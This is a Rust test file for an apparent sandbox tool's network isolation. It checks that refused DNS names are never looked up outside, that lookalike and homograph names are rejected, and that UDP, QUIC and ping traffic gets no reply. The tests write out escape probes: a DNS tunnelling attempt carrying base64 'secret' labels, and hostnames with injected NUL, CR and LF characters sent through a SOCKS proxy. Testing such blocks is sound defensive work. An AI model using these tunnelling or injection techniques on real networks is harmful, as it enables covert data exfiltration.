//! Look-ups: what is answered inside, and that no question leaves the host.

use kennel_tests::{kennel, ran_within, skipped};

use crate::network::there::PACKETS;
use crate::network::{LONG, Way, allowed_sh, allowing, by, python_inside, told};
use kennel_tests::world::{DNS, THERE, world};

/// What a script needs to ask a name server by hand.
const ASK: &str = "
import socket, struct, time
def question(name, kind):
    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.'))
    opt = b'\\0' + struct.pack('>HHIH', 41, 1232, 0, 0)
    return struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 1) + labels + b'\\0' + struct.pack('>HH', kind, 1) + opt
def ask(name, kind, server='127.0.0.1', family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(10)
    s.sendto(question(name, kind), (server, 53))
    answer = s.recv(4096)
    return answer[3] & 15, struct.unpack('>H', answer[6:8])[0], answer
def ask_by_tcp(name, kind, server='127.0.0.1'):
    s = socket.create_connection((server, 53), 10); q = question(name, kind)
    s.sendall(struct.pack('>H', len(q)) + q)
    answer = s.recv(4096)[2:]
    return answer[3] & 15, struct.unpack('>H', answer[6:8])[0], answer
";

#[test]
fn names_get_stable_addresses_and_other_records_the_answers_that_programs_need() {
    if world().is_none() {
        return;
    }
    let script = format!(
        "{ASK}
a = ask('stable.web.test', 1)
assert a[:2] == (0, 1), a
first = socket.gethostbyname('stable.web.test')
assert socket.gethostbyname('other.web.test') != first
assert socket.gethostbyname('Stable.WEB.test.') == first
assert socket.gethostbyname('stable.web.test') == first
assert ask('stable.web.test', 65)[:2] == (0, 0)   # HTTPS: there is none
assert ask('stable.web.test', 64)[:2] == (0, 0)   # SVCB
for kind in (15, 16, 33): assert ask('stable.web.test', kind)[:2] == (5, 0), kind  # MX, TXT, SRV
for server in ('127.0.0.1', '{DNS}', '8.8.8.8'):
    for how in (ask, ask_by_tcp):
        assert how('stable.web.test', 1, server)[:2] == (0, 1), (server, how)
        code, count, answer = how('denied.elsewhere.test', 1, server)
        assert (code, count) == (3, 0) and b'not on the allow list' in answer, (server, answer)
assert socket.gethostbyaddr(first)[0] == 'stable.web.test'
print('asked')"
    );
    let Some(told) = python_inside(Way::Plain, &["*.web.test"], &script) else { return };
    let told = told.ok();
    assert_eq!(told.ran.stdout, "asked\n");
    assert_eq!(told.reason("denied.elsewhere.test"), "not on the allow list");
}

#[test]
#[kennel_claim::claim("network/refused-names-are-not-looked-up")]
fn dns_tunnelling() {
    let Some(world) = world() else { return };
    let script = format!(
        "{ASK}
import sys
for name in ('c2VjcmV0.tunnel.elsewhere.test', 'deep.c2VjcmV0.exact.web.test', 'c2VjcmV0.exact.web.test'):
    for kind in (1, 28, 16, 5, 10, 255):
        for server in sys.argv[1:]:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
            s.sendto(question(name, kind), (server, 53))
            try: print(name, kind, s.recv(4096)[3] & 15)
            except OSError as error: print(name, kind, error)
print('tried')"
    );
    let Some(python) = kennel_tests::world::python() else { return skipped("python3 is not installed") };
    let words = [python.as_os_str(), "-c".as_ref(), script.as_ref(), "127.0.0.1".as_ref(), DNS.as_ref()];
    let told = told(&allowing(&["exact.web.test"]), &by(Way::Plain, &words)).ok();
    assert!(told.ran.stdout.ends_with("tried\n") && !told.ran.stdout.contains(" 0\n"), "{told:#?}");
    world.saw_nothing_of("c2vjcmv0");
    // The same question from outside does arrive.
    let mut outside = std::process::Command::new(python);
    outside.args(["-c", &script.replace("c2VjcmV0", "b3V0c2lkZQ"), DNS]);
    ran_within(LONG, &mut outside).ok();
    assert!(!world.seen("b3v0c2lkzq").is_empty());
}

#[test]
#[kennel_claim::claim("network/refused-names-are-not-looked-up")]
fn a_name_that_is_not_allowed_is_looked_up_by_nobody() {
    let Some(world) = world() else { return };
    for way in crate::network::BOTH {
        let script = "curl -sS http://early.elsewhere.test/; curl -sS https://early.elsewhere.test/
                      curl -sS --proxy $FTP_PROXY http://early.elsewhere.test/; getent hosts early.elsewhere.test; exit 0";
        let told = allowed_sh(way, &["web.test"], script).ok();
        assert_eq!(told.reason("early.elsewhere.test"), "not on the allow list");
    }
    world.saw_nothing_of("early.elsewhere");
    // Neither is one that is allowed, until someone connects to it.
    allowed_sh(Way::Plain, &["patient.web.test"], "getent hosts patient.web.test").ok();
    world.saw_nothing_of("patient");
    allowed_sh(Way::Plain, &["patient.web.test"], "curl -sS http://patient.web.test/hello").ok();
    assert!(!world.seen("dns patient.web.test").is_empty());
}

#[test]
fn a_name_in_the_hosts_file_of_the_host_is_found() {
    if world().is_none() {
        return;
    }
    let told =
        allowed_sh(Way::Plain, &["in-hosts-file.test"], "curl -sS http://in-hosts-file.test/hello").ok();
    assert_eq!(told.ran.stdout, "hello from in-hosts-file.test\n");
}

#[test]
#[kennel_claim::claim("network/one-spelling")]
fn case_trailing_dots_and_idn_fold_to_the_same_name() {
    let Some(world) = world() else { return };
    for way in crate::network::BOTH {
        for name in ["FOLDED.Web.Test", "folded.web.test.", "folded.WEB.test."] {
            let told = allowed_sh(way, &["Folded.web.test"], &format!("curl -sS http://{name}/hello")).ok();
            assert_eq!(told.ran.stdout, "hello from folded.web.test\n", "{name}");
        }
        // The rule is written with the letter, the program uses the A-label.
        let script = "curl -sS http://xn--bcher-kva.web.test/hello";
        let told = allowed_sh(way, &["bücher.web.test"], script).ok();
        assert_eq!(told.ran.stdout, "hello from xn--bcher-kva.web.test\n");
        // A Cyrillic letter makes another name.
        let script = "curl -sS -o /dev/null -w '%{http_code}' http://xn--bchr-kva9c.web.test/hello; exit 0";
        let told = allowed_sh(way, &["bucher.web.test"], script).ok();
        assert!(!told.ran.stdout.contains("200"), "{told:#?}");
    }
    world.saw_nothing_of("xn--bchr");
}

#[test]
#[kennel_claim::claim("network/one-spelling")]
fn names_that_only_look_alike_are_other_names() {
    let Some(world) = world() else { return };
    for way in crate::network::BOTH {
        for name in [
            "evilgood.web.test",
            "good.web.test.evil.elsewhere.test",
            "web.test",
            "x.good.web.test",
            "ood.web.test",
        ] {
            let script =
                format!("curl -sS -m 20 -o /dev/null -w '%{{http_code}}' http://{name}/alike; exit 0");
            let told = allowed_sh(way, &["good.web.test"], &script).ok();
            assert!(!told.ran.stdout.contains("200"), "{name}: {told:#?}");
            assert_eq!(told.reason(name), "not on the allow list");
        }
        let told =
            allowed_sh(way, &["*.good.web.test"], "curl -sS -o /dev/null http://good.web.test/alike; exit 0");
        assert_eq!(told.reason("good.web.test"), "not on the allow list");
    }
    world.saw_nothing_of("/alike");
}

#[test]
#[kennel_claim::claim("network/one-spelling")]
fn nul_cr_and_lf_in_names() {
    let Some(world) = world() else { return };
    let script = "
import os, socket, urllib.parse
url = urllib.parse.urlsplit(os.environ['HTTP_PROXY'])
for name in (b'odd.web.test\\0.elsewhere.test', b'evil\\0.odd.web.test', b'odd.web.test\\r\\n', b'evil\\nodd.web.test',
             b'evil%25x.odd.web.test', b'evil odd.web.test', b'evil/odd.web.test', b'evil@odd.web.test', b'a..odd.web.test'):
    s = socket.create_connection((url.hostname, url.port), 10)
    user, word = url.username.encode(), url.password.encode()
    s.sendall(b'\\5\\1\\2'); assert s.recv(2) == b'\\5\\2'
    s.sendall(b'\\1' + bytes([len(user)]) + user + bytes([len(word)]) + word); assert s.recv(2) == b'\\1\\0'
    s.sendall(b'\\5\\1\\0\\3' + bytes([len(name)]) + name + b'\\0\\x50')
    assert s.recv(10)[:2] == b'\\5\\2', name
print('refused')";
    let Some(told) = python_inside(Way::Proxy, &["*.odd.web.test", "odd.web.test"], script) else { return };
    assert_eq!(told.ok().ran.stdout, "refused\n");
    world.saw_nothing_of("odd.web.test");
    world.saw_nothing_of("evil");
}

#[test]
#[kennel_claim::claim("network/allowed-addresses-only")]
fn udp_and_quic() {
    let Some(world) = world() else { return };
    let script = format!(
        "import socket, sys, time
begun = time.time()
for host in sys.argv[1:]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20)
    try:
        s.connect((socket.gethostbyname(host), {PACKETS})); s.send(b'quic to ' + host.encode()); print(s.recv(100))
    except OSError as error: print(type(error).__name__)
print('quick' if time.time() - begun < 15 else 'slow')"
    );
    let Some(python) = kennel_tests::world::python() else { return skipped("python3 is not installed") };
    let words =
        [python.as_os_str(), "-c".as_ref(), script.as_ref(), "quic.web.test".as_ref(), THERE.as_ref()];
    let flags = allowing(&["quic.web.test", THERE]);
    let told = told(&flags, &by(Way::Plain, &words)).ok();
    assert!(!told.ran.stdout.contains("answered") && told.ran.stdout.ends_with("quick\n"), "{told:#?}");
    assert!(!told.ran.stdout.contains("TimeoutError"), "UDP is to fail at once: {told:#?}");
    world.saw_nothing_of("quic to");
    let mut outside = std::process::Command::new(python);
    outside.args(["-c", &script.replace("quic to", "outside to"), THERE]);
    assert!(ran_within(LONG, &mut outside).stdout.contains("answered"));
}

#[test]
#[kennel_claim::claim("network/allowed-addresses-only")]
fn pings_get_no_answer() {
    if world().is_none() {
        return;
    }
    let script = format!(
        "import socket
answers = 0
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    for host in ('{THERE}', '8.8.8.8', socket.gethostbyname('ping.web.test')):
        try:
            s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP); s.settimeout(1)
            s.sendto(b'\\x08\\0\\xf7\\xfe\\0\\1\\0\\0', (host, 0)); s.recv(100); answers += 1
        except OSError: pass
print(answers)"
    );
    for flags in [&[][..], &["--user", "root"]] {
        let Some(python) = kennel_tests::world::python() else { return skipped("python3 is not installed") };
        let mut all = allowing(&["ping.web.test", THERE]);
        all.extend(flags.iter().map(|flag| (*flag).to_owned()));
        let told = told(&all, &by(Way::Plain, &[python.as_os_str(), "-c".as_ref(), script.as_ref()])).ok();
        assert_eq!(told.ran.stdout, "0\n", "{flags:?}");
    }
}

#[test]
fn a_program_that_looks_itself_up_finds_its_loopback_and_nothing_is_blocked() {
    if world().is_none() {
        return;
    }
    for flags in [&[][..], &["--hostname", "Box"]] {
        let mut all = crate::network::allowing(&["self.web.test"]);
        all.extend(flags.iter().map(|flag| (*flag).to_owned()));
        let told =
            crate::network::told(&all, &["sh", "-c", "getent ahosts $(uname -n) | cut -d' ' -f1 | sort -u"])
                .ok();
        let found: Vec<&str> = told.ran.stdout.lines().collect();
        assert!(found.contains(&"127.0.0.1") && found.iter().all(|one| ["127.0.0.1", "::1"].contains(one)));
        assert_eq!(told.ran.stderr, "", "{told:#?}");
    }
}

#[test]
fn without_an_allow_list_there_is_no_name_server_at_all() {
    let Some(world) = world() else { return };
    let script =
        "getent hosts none.web.test && exit 1; curl -sS -m 20 http://none.web.test/ && exit 2; exit 0";
    ran_within(LONG, kennel(["run", "--no-settings", "--", "sh", "-c", script]).env_remove("http_proxy"))
        .ok();
    world.saw_nothing_of("none.web.test");
}
